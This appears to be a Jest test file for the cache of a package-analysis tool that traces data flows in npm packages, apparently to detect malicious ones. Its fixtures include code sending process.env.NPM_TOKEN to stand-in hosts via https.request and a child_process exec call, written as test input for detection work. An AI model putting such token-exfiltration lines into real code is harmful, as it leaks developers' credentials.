import { createHash } from 'node:crypto';
import { describe, expect, test } from '@jest/globals';
import { Steps } from '../../../src/javascript/walk.js';
import { createFileCache } from '../../../src/packages/profile/file-cache.js';
import type { PackageFile } from '../../../src/packages/profile/file-places.js';
import { profilePackage } from '../../../src/packages/profile/profile.js';
import { nothing } from '../../../src/packages/profile/source-files.js';

function file(path: string, text: string): PackageFile {
  const bytes = Buffer.from(text);
  return { path, size: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex'), bytes };
}
const packed = (manifest: object, files: Record<string, string>): readonly PackageFile[] =>
  Object.entries({ 'package.json': JSON.stringify(manifest), ...files }).map(([path, text]) => file(path, text));

const sends = "const send = require('./send');\nsend(process.env.NPM_TOKEN);\n";
const posts = "module.exports = (d) => require('https').request('https://collect.example.invalid/' + d).end();\n";
const quiet = 'module.exports = (d) => d.length;\n';

describe('facts of files that were read before', () => {
  test('a profile is the same with and without them, in whatever order versions come', () => {
    const old = packed({ name: 'a', version: '1.0.0', main: 'index.js' }, { 'index.js': sends, 'send.js': quiet });
    const now = packed({ name: 'a', version: '1.0.1', main: 'index.js' }, { 'index.js': sends, 'send.js': posts });
    const cache = createFileCache(1_000_000);
    for (const files of [old, now, old, now, now]) expect(profilePackage({ files }, undefined, cache)).toEqual(profilePackage({ files }));
    expect(profilePackage({ files: now }, undefined, cache).value.flows).not.toEqual([]);
  });

  test('what another version made of a file\'s neighbours is not in it any more', () => {
    const index = "const { pick } = require('./pick');\nrequire('https').request('https://a.example.invalid/' + pick(process.env.NPM_TOKEN, 'x'));\n";
    const whole = packed({ name: 'a', main: 'index.js' }, { 'index.js': index, 'pick.js': 'exports.pick = (a, b) => a;\n' });
    const other = packed({ name: 'a', main: 'index.js' }, { 'index.js': index, 'pick.js': 'exports.pick = (a, b) => b;\n' });
    const without = packed({ name: 'a', main: 'index.js' }, { 'index.js': index });
    const cache = createFileCache(1_000_000);
    for (const files of [whole, other, without, whole, other]) expect(profilePackage({ files }, undefined, cache)).toEqual(profilePackage({ files }));
    expect([whole, other].map((files) => profilePackage({ files }, undefined, cache).value.flows.length > 0)).toEqual([true, false]);
  });

  test('the same text at another path, or read as another kind of module, is another file', () => {
    const text = 'with (x) { require("child_process").exec("id"); }\n';
    const cache = createFileCache(1_000_000);
    for (const files of [packed({ main: 'a.js' }, { 'a.js': text }), packed({ main: 'a.js', type: 'module' }, { 'a.js': text }), packed({ main: 'b.js' }, { 'b.js': text })]) {
      expect(profilePackage({ files }, undefined, cache)).toEqual(profilePackage({ files }));
    }
  });

  test('what is known costs the steps that reading cost', () => {
    const cache = createFileCache(100);
    const spent = [0, 0].map(() => {
      const steps = new Steps(200_000_000);
      cache.facts('a', 10, steps, () => {
        steps.take(1_234);
        return nothing;
      });
      return 200_000_000 - steps.remaining;
    });
    expect(spent).toEqual([1_234, 1_234]);
  });

  test.each([
    ['it fits beside the others', 100, ['a', 'b', 'a'], 2],
    ['the one that was not asked for longest goes', 20, ['a', 'b', 'a', 'c', 'a'], 3],
    ['it is larger than all that is kept', 5, ['a', 'a'], 2],
  ])('kept as long as %s', (_, bytes, asked, reads) => {
    const cache = createFileCache(bytes);
    let count = 0;
    for (const key of asked) {
      cache.facts(key, 10, new Steps(200_000_000), () => {
        count += 1;
        return nothing;
      });
    }
    expect(count).toBe(reads);
  });

  test('with few steps left nothing is taken from it, and nothing is kept', () => {
    const cache = createFileCache(100);
    let reads = 0;
    const read = (steps: number) => cache.facts('a', 10, new Steps(steps), () => {
      reads += 1;
      return nothing;
    });
    for (const steps of [1_000, 1_000, 200_000_000, 200_000_000, 1_000]) read(steps);
    expect(reads).toBe(4);
  });
});
